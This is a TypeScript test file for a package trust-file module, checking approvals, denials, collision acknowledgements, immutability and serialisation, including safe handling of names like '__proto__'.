      assert.deepEqual(result.packages, {});
    });
  });

  describe(`when no approval matches, or the package is denied`, () => {
    it(`returns the input`, () => {
      const input = deepFreeze(parseTrustFile(EXAMPLE, FILE));
      assert.equal(withoutApproval(input, `esbuild`, approval(`9.9.9`)), input);
      assert.equal(withoutApproval(input, `evil-thing`, approval(`3.0.0`)), input);
    });
  });
});

describe(`withDenial`, () => {
  describe(`when the package has approvals`, () => {
    it(`replaces them, leaving the input untouched`, () => {
      const input = deepFreeze(parseTrustFile(EXAMPLE, FILE));
      const result = withDenial(input, `esbuild`, deepFreeze({deniedAt: `2026-12-01T00:00:00Z`, reason: `compromised`}));
      assert.deepEqual(result.packages.esbuild, {denied: {deniedAt: `2026-12-01T00:00:00Z`, reason: `compromised`}});
      assert.deepEqual(result.packages[`evil-thing`], EXAMPLE_MODEL.packages[`evil-thing`]);
      assert.deepEqual(input, EXAMPLE_MODEL);
    });
  });

  describe(`when the package is already denied`, () => {
    it(`replaces the earlier denial`, () => {
      const input = deepFreeze(parseTrustFile(EXAMPLE, FILE));
      const result = withDenial(input, `evil-thing`, {deniedAt: `2026-12-01T00:00:00Z`});
      assert.deepEqual(result.packages[`evil-thing`], {denied: {deniedAt: `2026-12-01T00:00:00Z`}});
      assert.deepEqual(input, EXAMPLE_MODEL);
    });
  });
});

describe(`withoutPackage`, () => {
  describe(`when the package is present`, () => {
    it(`removes only that package, leaving the input untouched`, () => {
      const input = deepFreeze(parseTrustFile(EXAMPLE, FILE));
      const result = withoutPackage(input, `esbuild`);
      assert.deepEqual(result, {version: 1, packages: {'evil-thing': EXAMPLE_MODEL.packages[`evil-thing`]}, collisions: {}});
      assert.deepEqual(input, EXAMPLE_MODEL);
    });
  });

  describe(`when the package is absent`, () => {
    it(`returns an equal trust file`, () => {
      const input = deepFreeze(parseTrustFile(EXAMPLE, FILE));
      const result = withoutPackage(input, `not-there`);
      assert.deepEqual(result, EXAMPLE_MODEL);
      assert.notEqual(result, input);
      assert.equal(serializeTrustFile(result), EXAMPLE);
    });
  });

  describe(`when everything is revoked`, () => {
    it(`serializes as an empty trust file`, () => {
      const result = withoutPackage(withoutPackage(parseTrustFile(EXAMPLE, FILE), `esbuild`), `evil-thing`);
      assert.equal(serializeTrustFile(result), serializeTrustFile(emptyTrustFile()));
    });
  });
});

describe(`withCollisionAcknowledged`, () => {
  describe(`when the name is not acknowledged yet`, () => {
    it(`adds it, leaving the input and the acknowledgement untouched`, () => {
      const input = deepFreeze(parseTrustFile(EXAMPLE, FILE));
      const added = deepFreeze(acknowledgement({reason: `we own it`}));
      const result = withCollisionAcknowledged(input, `corp-utils`, added);
      assert.deepEqual(result.collisions, {'corp-utils': acknowledgement({reason: `we own it`})});
      assert.deepEqual(result.packages, EXAMPLE_MODEL.packages);
      assert.deepEqual(input, EXAMPLE_MODEL);
    });

    it(`returns new records that share the unchanged entries`, () => {
      const input = deepFreeze(parseTrustFile(WITH_COLLISIONS, FILE));
      const result = withCollisionAcknowledged(input, `@corp/new`, acknowledgement());
      assert.notEqual(result, input);
      assert.notEqual(result.packages, input.packages);
      assert.notEqual(result.collisions, input.collisions);
      assert.equal(result.packages.esbuild, input.packages.esbuild);
      assert.equal(result.collisions[`corp-utils`], input.collisions[`corp-utils`]);
      result.collisions[`other`] = acknowledgement();
      result.packages[`other`] = {denied: {deniedAt: `2026-01-01T00:00:00Z`}};
      assert.deepEqual(input, WITH_COLLISIONS_MODEL);
    });
  });

  describe(`when the name is already acknowledged`, () => {
    it(`replaces the earlier acknowledgement, reason included`, () => {
      const input = deepFreeze(parseTrustFile(WITH_COLLISIONS, FILE));
      const replacement = acknowledgement({acknowledgedAt: `2026-12-01T00:00:00Z`, publicRegistry: `https://registry.npmjs.org/`});
      const result = withCollisionAcknowledged(input, `corp-utils`, replacement);
      assert.deepEqual(result.collisions, {'@corp/ui': WITH_COLLISIONS_MODEL.collisions[`@corp/ui`], 'corp-utils': replacement});
      assert.doesNotMatch(serializeTrustFile(result), /reason/);
      assert.deepEqual(input, WITH_COLLISIONS_MODEL);
    });
  });

  describe(`when the name also has package decisions`, () => {
    it(`leaves them alone`, () => {
      const input = deepFreeze(parseTrustFile(WITH_COLLISIONS, FILE));
      const result = withCollisionAcknowledged(input, `esbuild`, acknowledgement());
      assert.deepEqual(result.packages, WITH_COLLISIONS_MODEL.packages);
      assert.deepEqual(result.collisions.esbuild, acknowledgement());
      assert.deepEqual(input, WITH_COLLISIONS_MODEL);
    });
  });

  describe(`when the caller changes its acknowledgement object afterwards`, () => {
    it(`is not affected`, () => {
      const added = acknowledgement({reason: `why`});
      const result = withCollisionAcknowledged(emptyTrustFile(), `corp-utils`, added);
      assert.notEqual(result.collisions[`corp-utils`], added);
      added.reason = `changed`;
      added.publicRegistry = `https://evil.example`;
      assert.deepEqual(result.collisions[`corp-utils`], acknowledgement({reason: `why`}));
    });
  });

  describe(`when the name is an Object.prototype member`, () => {
    it(`treats it as an ordinary name`, () => {
      const result = withCollisionAcknowledged(emptyTrustFile(), `constructor`, acknowledgement());
      assert.ok(Object.hasOwn(result.collisions, `constructor`));
      assert.deepEqual(result.collisions.constructor, acknowledgement());
      assert.match(serializeTrustFile(result), /"collisions": \{\n {4}"constructor": \{/);
    });
  });
});

describe(`withoutCollisionAcknowledgement`, () => {
  describe(`when the name is acknowledged`, () => {
    it(`removes only that acknowledgement, leaving the input untouched`, () => {
      const input = deepFreeze(parseTrustFile(WITH_COLLISIONS, FILE));
      const result = withoutCollisionAcknowledgement(input, `corp-utils`);
      assert.deepEqual(result, {...WITH_COLLISIONS_MODEL, collisions: {'@corp/ui': WITH_COLLISIONS_MODEL.collisions[`@corp/ui`]}});
      assert.notEqual(result.packages, input.packages);
      assert.equal(result.packages.esbuild, input.packages.esbuild);
      assert.deepEqual(input, WITH_COLLISIONS_MODEL);
    });
  });

  describe(`when the name is not acknowledged`, () => {
    it(`returns an equal trust file`, () => {
      const input = deepFreeze(parseTrustFile(WITH_COLLISIONS, FILE));
      for (const name of [`not-there`, `esbuild`, `constructor`, `__proto__`]) {
        const result = withoutCollisionAcknowledgement(input, name);
        assert.deepEqual(result, WITH_COLLISIONS_MODEL);
        assert.notEqual(result, input);
        assert.notEqual(result.collisions, input.collisions);
        assert.equal(serializeTrustFile(result), WITH_COLLISIONS);
      }
    });
  });

  describe(`when the name also has package decisions`, () => {
    it(`leaves them alone`, () => {
      const input = deepFreeze(withApproval(parseTrustFile(WITH_COLLISIONS, FILE), `corp-utils`, approval(`1.0.0`)));
      const result = withoutCollisionAcknowledgement(input, `corp-utils`);
      assert.deepEqual(result.packages, input.packages);
      assert.deepEqual(result.packages[`corp-utils`], {approvals: [approval(`1.0.0`)]});
      assert.deepEqual(Object.keys(result.collisions), [`@corp/ui`]);
    });
  });

  describe(`when every acknowledgement is removed`, () => {
    it(`writes the file without the section`, () => {
      const input = parseTrustFile(WITH_COLLISIONS, FILE);
      const result = withoutCollisionAcknowledgement(withoutCollisionAcknowledgement(input, `corp-utils`), `@corp/ui`);
      assert.deepEqual(result.collisions, {});
      assert.equal(serializeTrustFile(result), [
        `{`,
        `  "version": 1,`,
        `  "packages": {`,
        `    "esbuild": {`,
        `      "denied": {`,
        `        "deniedAt": "2026-11-26T10:00:00.000Z"`,
        `      }`,
        `    }`,
        `  }`,
        `}`,
        ``,
      ].join(`\n`));
    });
  });
});

describe(`edits of package decisions`, () => {
  describe(`when the trust file acknowledges collisions`, () => {
    it(`keep every acknowledgement, the package's own name included`, () => {
      const input = deepFreeze(withApproval(parseTrustFile(WITH_COLLISIONS, FILE), `corp-utils`, approval(`1.0.0`)));
      const edits: Array<[string, TrustFile]> = [
        [`withoutPackage`, withoutPackage(input, `corp-utils`)],
        [`withDenial`, withDenial(input, `corp-utils`, {deniedAt: `2026-12-01T00:00:00Z`})],
        [`withApproval`, withApproval(input, `corp-utils`, approval(`2.0.0`))],
      ];
      for (const [edit, result] of edits) {
        assert.deepEqual(result.collisions, WITH_COLLISIONS_MODEL.collisions, edit);
        assert.notEqual(result.collisions, input.collisions, edit);
      }
      assert.ok(!Object.hasOwn(edits[0][1].packages, `corp-utils`));
      assert.equal(serializeTrustFile(edits[0][1]), WITH_COLLISIONS);
    });
  });
});

describe(`collisionAcknowledgementOf`, () => {
  describe(`when the name is acknowledged`, () => {
    it(`returns its acknowledgement`, () => {
      const trust = parseTrustFile(WITH_COLLISIONS, FILE);
      assert.deepEqual(collisionAcknowledgementOf(trust, `corp-utils`), WITH_COLLISIONS_MODEL.collisions[`corp-utils`]);
      assert.deepEqual(collisionAcknowledgementOf(withCollisionAcknowledged(trust, `constructor`, acknowledgement()), `constructor`), acknowledgement());
    });
  });

  describe(`when the name is not acknowledged`, () => {
    it(`returns null, also for Object.prototype members and packages with decisions`, () => {
      const trust = parseTrustFile(WITH_COLLISIONS, FILE);
      for (const name of [`not-there`, `esbuild`, `constructor`, `__proto__`, `hasOwnProperty`, `toString`])
        assert.equal(collisionAcknowledgementOf(trust, name), null, name);
    });

    it(`returns null for a trust file built without the collisions record`, () => {
      assert.equal(collisionAcknowledgementOf({version: 1, packages: {}} as unknown as TrustFile, `corp-utils`), null);
    });
  });
});
